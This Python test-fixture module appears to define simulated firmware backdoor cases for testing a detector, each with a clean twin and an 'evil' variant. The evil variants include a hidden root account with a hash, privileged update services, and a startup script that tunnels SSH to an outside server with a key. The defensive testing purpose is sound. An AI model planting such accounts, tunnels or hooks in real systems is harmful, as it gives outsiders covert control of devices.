"""The documented cases: what each look-alike consists of and what must be said about it.

Written from the public descriptions named in the sources, before the rules were run. A
case answers with groups of abilities; of every group one must be found, at severity
medium or above. Of the twin, which is the same program without the evil part, none of
them may be.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from tests.lookalikes import carriers
from tests.lookalikes.carriers import Files


@dataclass(frozen=True)
class Case:
    """One documented case: ``program`` is where the code of ``source`` lies in the image."""

    name: str
    program: str
    pack: Callable[[Files], bytes]
    groups: tuple[frozenset[str], ...]
    both: Files = field(default_factory=dict)
    evil: Files = field(default_factory=dict)
    static: bool = False


def of(*groups: str) -> tuple[frozenset[str], ...]:
    return tuple(frozenset(group.split()) for group in groups)


SHELLS = "remote.shell.bind remote.shell.trigger remote.shell.reverse remote.shell.telnet"
STOPS = "veh.kill veh.immobilise power.kill"
BASE = {
    "etc/passwd": b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n",
    "etc/shadow": b"root:!:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n",
    "etc/version": b"1.2.8\n",
}
HASH = (b"k7u5Hb1Vn2Zr8Yc4Wd6Xe9Sf0Tg3PhJm" * 3)[:86]
SECRET = b"zyfwp:$6$Qm3xT0aL$" + HASH + b":18600:0:99999:7:::\n"

CASES = (
    Case(
        "contec",
        "opt/bin/monitor",
        carriers.squashfs,
        of("exfil.nfs", "net.hardcoded_ip", "update.no_verify update.download_exec update.flash"),
        both=BASE | {"etc/init.d/S90monitor": b"#!/bin/sh\n/opt/bin/monitor &\n"},
    ),
    Case(
        "dlink",
        "bin/webs",
        carriers.squashfs,
        of("cred.static remote.shell.trigger remote.shell.web remote.maintenance"),
        both=BASE,
    ),
    Case("netis", "bin/igdmptd", carriers.squashfs, of(f"{SHELLS} cred.static"), both=BASE),
    Case(
        "sercomm",
        "usr/sbin/scfgmgr",
        carriers.cpio,
        of(SHELLS),
        both=BASE,
        evil={"etc/init.d/rcS": b"#!/bin/sh\nmount -a\n/usr/sbin/scfgmgr -w &\n"},
    ),
    Case("static", "usr/sbin/scfgmgr", carriers.cpio, of(SHELLS), both=BASE, static=True),
    Case(
        "zyxel",
        "usr/sbin/zylogind",
        carriers.squashfs,
        of("cred.static cred.uid0"),
        both=BASE,
        evil={
            "etc/passwd": BASE["etc/passwd"] + b"zyfwp:x:0:0:ftp update:/:/bin/zysh\n",
            "etc/shadow": BASE["etc/shadow"] + SECRET,
        },
    ),
    Case(
        "xiongmai",
        "usr/sbin/dvrHelper",
        carriers.cpio,
        of("remote.shell.telnet", "remote.shell.trigger cred.static remote.shell.bind"),
        both=BASE,
    ),
    Case(
        "ragentek",
        "system/bin/debugs",
        carriers.tar,
        of("update.thirdparty_fota update.download_exec", "exfil.identity"),
        both={"system/build.prop": b"ro.build.version.release=6.0\n"},
        evil={
            "system/etc/init/debugs.rc": b"service debugs /system/bin/debugs\n    class main\n"
            b"    user root\n    oneshot\n"
        },
    ),
    Case(
        "adups",
        "system/bin/fotabinder",
        carriers.tar,
        of("update.thirdparty_fota", f"update.download_exec {SHELLS}", "exfil.identity"),
        both={"system/build.prop": b"ro.build.version.release=6.0\n"},
        evil={
            "system/etc/init/fota.rc": b"service fotabinder /system/bin/fotabinder\n"
            b"    class main\n    user root\n    socket fota stream 666 system system\n",
            "system/etc/permissions/com.adups.fota.xml": b"<permissions><privapp-permissions "
            b'package="com.adups.fota.sysoper"><permission name="android.permission.READ_SMS"/>'
            b'<permission name="android.permission.INSTALL_PACKAGES"/></privapp-permissions>'
            b"</permissions>\n",
        },
    ),
    Case(
        "unitree",
        "home/pi/autostart/tunnel/csclient",
        carriers.deb,
        of(
            "tunnel.reverse tunnel.covert tunnel.proxy tunnel.vpn tunnel.mesh remote.maintenance",
            "cred.token cred.static cred.url",
            "net.hardcoded_ip net.endpoint",
        ),
        both={"home/pi/autostart/.startlist.sh": b"triggerSport\nimageai\n"},
        evil={
            "home/pi/autostart/.startlist.sh": b"triggerSport\nimageai\ntunnel\n",
            "home/pi/autostart/tunnel/tunnel.sh": b"#!/bin/bash\ncd /home/pi/autostart/tunnel\n"
            b"sleep 10\n./csclient --server v3.zhexi.tech --key 9af1c0d3b7e84a2f86d5e0417cb3a95e "
            b"--map tcp:22 &\n",
            "lib/systemd/system/robot-tunnel.service": b"[Unit]\nAfter=network.target\n[Service]\n"
            b"ExecStart=/home/pi/autostart/tunnel/tunnel.sh\nRestart=always\n[Install]\n"
            b"WantedBy=multi-user.target\n",
        },
    ),
    Case(
        "yutong",
        "usr/bin/tbox_agent",
        carriers.squashfs,
        of(
            "modem.apn",
            "update.download_exec update.thirdparty_fota update.remote_mgmt update.flash",
            f"{STOPS} can.inject can.remote_bridge",
        ),
        both=BASE,
        evil={
            "etc/ppp/peers/fleet-lte": b"/dev/ttyUSB3\n115200\nconnect '/usr/sbin/chat -v -f "
            b"/etc/chatscripts/fleet'\ndefaultroute\nusepeerdns\nnoauth\npersist\n",
            "etc/chatscripts/fleet": b"ABORT BUSY\n'' ATZ\nOK 'AT+CGDCONT=1,\"IP\","
            b"\"fleet.iot.apn\"'\nOK ATD*99#\nCONNECT ''\n",
            "etc/tbox.conf": b"[esim]\niccid = 8940011234567890123\nprofile = RO-fleet\n"
            b"smdp = smdp.operator.example\n[ota]\nenable = 1\n"
            b"server = ota.fleet.example-bus.cn:8080\n",
        },
    ),
    Case(
        "newag",
        "opt/plc/train_ctl",
        carriers.tar,
        of("modem.tcp modem.apn modem.sms_cmd", "veh.geofence", f"logic.timebomb {STOPS}"),
        both={"opt/plc/version": b"3.7\n"},
    ),
    Case("targeted", "usr/sbin/updatehelper", carriers.squashfs, of("logic.targeting"), both=BASE),
    Case(
        "micodus",
        "usr/bin/tracker",
        carriers.cpio,
        of("modem.sms_cmd", STOPS, "cred.static cred.token"),
        both=BASE,
    ),
    Case(
        "deye",
        "usr/bin/logger",
        carriers.squashfs,
        of("power.kill veh.geofence logic.timebomb", "modem.apn modem.tcp"),
        both=BASE,
        evil={
            "etc/modules": b"option\nusb_wwan\nqmi_wwan\ncdc_acm\n",
            "lib/udev/rules.d/40-usb_modeswitch.rules": b'ATTRS{idVendor}=="2c7c", '
            b'ATTRS{idProduct}=="0125", RUN+="usb_modeswitch \'%b/%k\'"\n',
        },
    ),
)
BY_NAME = {case.name: case for case in CASES}
